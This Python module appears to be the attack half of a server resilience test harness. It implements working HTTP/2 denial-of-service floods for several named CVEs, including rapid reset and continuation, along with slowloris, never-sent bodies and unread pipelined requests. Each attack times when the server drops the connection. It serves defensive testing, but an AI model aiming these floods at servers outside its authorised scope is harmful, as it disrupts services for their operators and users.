"""The attacks of the hostile-client suite, each a function (port, stop_at)
that sends until the server closes the connection or stop_at passes, and
returns the time the connection closed, or None if it stayed open.

HTTP/2: the classes of CVE-2019-9512 (ping), -9514 (reset), -9515
(settings), -9518 (empty frames), 2023-44487 (rapid reset), 2024-27316
(continuation), streams and GETs never read. HTTP/1.1 and raw TCP: slow
headers (slowloris), a body promised and never sent, pipelined requests
never read."""

import select
import socket
import struct
import time

import h2wire as w
from harness import Attack, connect


def _closed_now():
    return time.time()


def flood(port, stop_at, make, read, preface=w.hello()):
    """Sends make(i) for i = 0, 1, ... as fast as the server takes it,
    reading (and dropping) what it sends if read, else never reading."""
    s = connect(port)
    s.setblocking(False)
    reader = w.Reader(s)
    pending, i = preface, 0
    try:
        while time.time() < stop_at:
            if not pending:
                pending = make(i)
                i += 1
            _, writable, _ = select.select([], [s], [], 0.02)
            if read:
                readable, _, _ = select.select([s], [], [], 0)
                if readable:
                    try:
                        for _ in reader.frames():
                            pass
                    except EOFError:
                        return _closed_now()
                    except BlockingIOError:
                        pass
            if writable:
                try:
                    pending = pending[s.send(pending):]
                except BlockingIOError:
                    pass
                except OSError:
                    return _closed_now()
        return None if not _peer_closed(s, read) else _closed_now()
    finally:
        s.close()


def _peer_closed(s, read):
    """After the attack's time: whether the server has closed (a write that
    fails, or the end of what it sent, when we read)."""
    try:
        s.send(w.frame(w.PING, 0, 0, b"\0" * 8))
    except BlockingIOError:
        return False
    except OSError:
        return True
    if not read:
        return False
    try:
        while True:
            if not s.recv(1 << 16):
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def batch(frames_of, n=64):
    """make(i): n frames at once, frames_of(k) for the k-th frame in all."""
    return lambda i: b"".join(frames_of(i * n + k) for k in range(n))


def headers_open(k):
    return w.frame(w.HEADERS, w.END_HEADERS, 2 * k + 1, w.post_block())


def headers_get(k):
    return w.frame(w.HEADERS, w.END_HEADERS | w.END_STREAM, 2 * k + 1, w.get_block())


def bad_headers(k):
    # an upper-case field name: a malformed request, which the server resets
    return w.frame(w.HEADERS, w.END_HEADERS | w.END_STREAM, 2 * k + 1,
                   w.get_block() + w.literal(b"X-Bad", b"1"))


def rapid_reset(k):
    sid = 2 * k + 1
    return (w.frame(w.HEADERS, w.END_HEADERS | w.END_STREAM, sid, w.get_block()) +
            w.frame(w.RST_STREAM, 0, sid, struct.pack(">I", 8)))


def ping(k):
    return w.frame(w.PING, 0, 0, struct.pack(">Q", k))


def settings(k):
    return w.settings([(4, 65535 + k % 2)])


def priority(k):
    return w.frame(w.PRIORITY, 0, 2 * k + 1, struct.pack(">IB", 0, 15))


def empty_data(k):
    return w.frame(w.DATA, 0, 1, b"")


def continuation(k):
    return w.frame(w.CONTINUATION, 0, 1, w.literal(b"x-pad", b"a" * 100))


def window_update(k):
    return w.frame(w.WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))


def h2(name, frames_of, read, first=b""):
    pre = w.hello() + first
    return Attack(name, "h2", lambda port, stop_at: flood(port, stop_at, batch(frames_of), read, pre))


H2_ATTACKS = [
    h2("h2-streams-unread", headers_open, read=False),
    h2("h2-gets-unread", headers_get, read=False),
    h2("h2-ping-unread (CVE-2019-9512)", ping, read=False),
    h2("h2-settings-unread (CVE-2019-9515)", settings, read=False),
    h2("h2-reset-unread (CVE-2019-9514)", bad_headers, read=False),
    h2("h2-rapid-reset (CVE-2023-44487)", rapid_reset, read=True),
    h2("h2-empty-data (CVE-2019-9518)", empty_data, read=True,
       first=w.frame(w.HEADERS, w.END_HEADERS, 1, w.post_block())),
    h2("h2-priority", priority, read=True),
    h2("h2-window-update", window_update, read=True),
    h2("h2-continuation (CVE-2024-27316)", continuation, read=True,
       first=w.frame(w.HEADERS, 0, 1, w.get_block())),
]


# ---- HTTP/1.1 and plain TCP ---------------------------------------------------


def slowloris(port, stop_at, conns=200, every=0.5):
    """conns connections, each sending one byte of a request's headers every
    `every` seconds; returns when every one was closed (or None)."""
    socks, closed = [], 0
    for _ in range(conns):
        try:
            socks.append(connect(port))
        except OSError:
            break
    request = b"GET / HTTP/1.1\r\nHost: x\r\nX-a: " + b"b" * 4096
    at = 0
    last_close = None
    try:
        while time.time() < stop_at and socks:
            for s in list(socks):
                try:
                    s.send(request[at % len(request):at % len(request) + 1])
                except OSError:
                    socks.remove(s)
                    s.close()
                    closed += 1
                    last_close = time.time()
            at += 1
            time.sleep(every)
        return last_close if not socks else None
    finally:
        for s in socks:
            s.close()


def body_never_sent(port, stop_at, length=100000000):
    """Headers that promise a body of `length` bytes, then three of them."""
    s = connect(port)
    try:
        s.sendall(b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\nabc" % length)
        s.settimeout(max(0.01, stop_at - time.time()))
        try:
            while s.recv(1 << 16):
                pass
            return time.time()
        except socket.timeout:
            return None
        except OSError:
            return time.time()
    finally:
        s.close()


def pipeline_unread(port, stop_at, size=60000):
    """Pipelined POSTs of size bytes, never reading the answers."""
    body = b"x" * size
    req = b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n%s" % (size, body)
    return flood(port, stop_at, lambda i: req * 4, read=False, preface=b"")
